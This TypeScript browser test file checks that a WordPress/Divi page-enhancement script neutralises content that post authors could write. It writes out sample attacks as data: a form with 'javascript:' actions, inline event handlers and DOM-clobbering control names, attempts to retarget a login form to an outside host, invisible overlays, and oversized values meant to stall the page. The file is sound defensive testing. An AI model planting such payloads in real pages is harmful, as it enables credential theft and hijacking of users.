/** Attacks that authors of posts could write: they run no script, request no other host, send nothing without a press, and cause no long task. */
import { describe, expect, it } from 'vitest';
import { settle } from './support/in-page';
import { html, module } from './support/markup';
import { stage } from './support/stage';
import { recordTasks } from './support/task-trace';
import { type Visit, visits } from './support/visit';

const theStage = stage();
const browser = visits();

/** Milliseconds of processor time. On a quiet machine every scene stays below 200. */
const LONGEST_TASK = 300;
const OTHER = 'https://other.example';

const json = (value: unknown): string => JSON.stringify(value).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
const multiView = (schema: object, more: object = {}): string =>
  `data-et-multi-view="${json({ schema, slug: 'et_pb_text', ...more })}"`;

const CONTROLS = ['attributes', 'getAttributeNames', 'removeAttribute', 'matches', 'remove', 'localName'];
/** A form whose controls hide what a sanitizer reads. */
const HIDING = `<form action="javascript:ran=1" onanimationstart="ran=2" onfocusin="ran=3" style="animation:k 1ms">${CONTROLS.map((name) => `<select name="${name}"></select>`).join('')}<img name="querySelectorAll" src="/none.png" onerror="ran=4"></form>`;
const LOGIN = `<form id="loginform" action="/wp-login.php" method="post"><input name="log"><input type="password" name="pwd"><input type="hidden" name="amount" value="5"><button>Log in</button></form><a id="pay" href="/pay">Pay</a>`;
const KEYFRAMES = '<style>@keyframes k{from{opacity:.9}}</style>';

const project = (at: number, inner: string) =>
  `<div class="et_pb_portfolio_item et_pb_grid_item" data-id="${at}"><a href="/p${at}"><span class="et_portfolio_image"><img src="/p.png" alt=""></span><div class="meta"><h3 class="et_pb_module_header">${at}</h3></div></a>${inner}</div>`;
const carousel = `<div class="et_pb_module et_pb_fullwidth_portfolio et_pb_fullwidth_portfolio_carousel" data-auto-rotate="on" data-auto-rotate-speed="200"><div class="et_pb_portfolio_items clearfix">${[
  1, 2, 3,
]
  .map((at) => project(at, at === 1 ? `<div ${multiView({ content: { desktop: HIDING } })}></div>` : ''))
  .join('')}</div></div>`;

const SCENES: [what: string, body: string][] = [
  ['a form that hides its members, cloned by a carousel', carousel],
  [
    'such a form in content for phones and for hover',
    `<div class="et_pb_module"><div id="content" ${multiView({ content: { desktop: 'D', hover: HIDING, phone: HIDING } })}>D</div></div>`,
  ],
  [
    'targets outside the module',
    `${LOGIN}<div class="et_pb_module"><p ${multiView(
      {
        attrs: { desktop: { action: `${OTHER}/login`, type: 'text', value: '0', href: OTHER, ping: OTHER } },
        visibility: { desktop: false },
        styles: { desktop: { position: 'fixed', inset: '0', opacity: '0' } },
      },
      { target: 'form, input, a, body, html' },
    )}>p</p></div>`,
  ],
  [
    'a form and a style sheet in content',
    `${LOGIN}<div class="et_pb_module"><div id="styled" ${multiView({ content: { desktop: `<style>body{display:none}@import "${OTHER}/a.css";</style><button form="loginform" formaction="${OTHER}">b</button><iframe src="${OTHER}"></iframe>` } })}></div></div>`,
  ],
  [
    'a number of 300,000,000 digits',
    `<div class="wp-video"><video class="wp-video-shortcode" width="640" height="360" controls data-mejsoptions="${json({ secondsDecimalLength: 300_000_000, framesPerSecond: 1e300, alwaysShowHours: true, timeFormat: 'hh:mm:ss' })}" src="/none.mp4"></video></div>`,
  ],
  [
    'a ring of 16,000 px',
    '<div class="et_pb_module et_pb_circle_counter"><div class="et_pb_circle_counter_inner" style="width:16000px" data-number-value="50" data-bar-bg-color="#000"><div class="percent"><p><span class="percent-value"></span></p></div></div></div>',
  ],
  [
    'a shipping option that is a button, and a hidden tab that adds products to the cart',
    `<script>woocommerce_params={wc_ajax_url:'/?wc-ajax=%%endpoint%%'};wc_cart_params={wc_ajax_url:'/?wc-ajax=%%endpoint%%',update_shipping_method_nonce:'n'}</script><div class="cart_totals"><button class="shipping_method" name="shipping_method[0]" value="x">b</button></div><ul class="wc-tabs"><li class="reviews_tab" hidden><a class="ajax_add_to_cart" data-product_id="7" data-quantity="99" href="#x">x</a></li></ul><a class="woocommerce-review-link" id="reviews-link" href="#reviews">Reviews</a>`,
  ],
  [
    'an opener of a full-screen menu in a post',
    '<div id="et-main-area"><span class="mobile_menu_bar et_toggle_fullscreen_menu">menu</span><div class="et_pb_fullscreen_nav_container" style="display:none"></div></div>',
  ],
  [
    'far more data than on real pages',
    `<div class="et_pb_module">${`<b ${multiView({ classes: { desktop: { add: Array.from({ length: 100 }, (_, at) => `c${at}`) } } }, { target: 'i' })}></b>`.repeat(40)}${'<i>x</i>'.repeat(500)}</div>`,
  ],
];

describe.each(['', 'lite/'])('scenes of authors, flavour "%s"', (flavour) => {
  async function open(body: string): Promise<Visit & { requests: string[]; endRecord: () => Promise<number> }> {
    const requests: string[] = [];
    let endRecord = () => Promise.resolve(0);
    const head = `${KEYFRAMES}${module(`/enliven/${flavour}enliven.js`)}`;
    const visit = await browser.open(theStage.server.put('/attack.html', html({ head, body })), {
      before: async (page) => {
        endRecord = await recordTasks(page);
        await page.route('**/*', (route) => {
          const request = route.request();
          const isOwn = new URL(request.url()).hostname === '127.0.0.1';
          if (!isOwn || request.method() !== 'GET') requests.push(`${request.method()} ${request.url()}`);
          return isOwn ? route.continue() : route.abort();
        });
      },
    });
    return { ...visit, requests, endRecord };
  }

  // A shared processor makes tasks longer, never shorter: the shortest of three attempts counts.
  it.each(SCENES)('are harmless: %s', async (_, body) => {
    let longest = Number.POSITIVE_INFINITY;
    for (let tries = 0; tries < 3 && longest >= LONGEST_TASK; tries++) longest = Math.min(longest, await attack(body));
    expect(longest).toBeLessThan(LONGEST_TASK);
  });

  /** Opens a scene, uses it, and checks that it has no effect. @returns the longest task in milliseconds */
  async function attack(body: string): Promise<number> {
    const { page, requests, endRecord } = await open(body);
    await settle(page);
    await page.waitForTimeout(500);
    const use = async (selector: string, action: 'hover' | 'click') => {
      const target = page.locator(selector).first();
      if (await target.isVisible()) await target[action]({ timeout: 1000 }).catch(() => {});
    };
    for (const selector of ['#content', '#styled']) await use(selector, 'hover');
    await page.setViewportSize({ width: 390, height: 900 });
    await page.waitForTimeout(400);
    await use('#reviews-link', 'click');
    await use('.et_toggle_fullscreen_menu', 'click');
    const state = await page.evaluate(() => {
      const scope = globalThis as { ran?: unknown };
      const form = document.querySelector('#loginform');
      return {
        ran: scope.ran,
        inert: document.querySelectorAll('[inert] form, body[inert], #page-container[inert]').length,
        hidden: getComputedStyle(document.body).display === 'none',
        login: form && [form.getAttribute('action'), [...form.querySelectorAll('input')].map(({ type }) => type)],
        pay: document.querySelector('#pay')?.getAttribute('href') ?? null,
        left: [...document.querySelectorAll('body *')].filter((element) =>
          Element.prototype.getAttributeNames.call(element).some((name) => name.startsWith('on')),
        ).length,
      };
    });
    const hasLogin = body.includes('loginform');
    expect(state).toEqual({
      ran: undefined,
      inert: 0,
      hidden: false,
      login: hasLogin ? ['/wp-login.php', ['text', 'password', 'hidden']] : null,
      pay: hasLogin ? '/pay' : null,
      left: 0,
    });
    expect(requests).toEqual([]);
    return endRecord();
  }
});
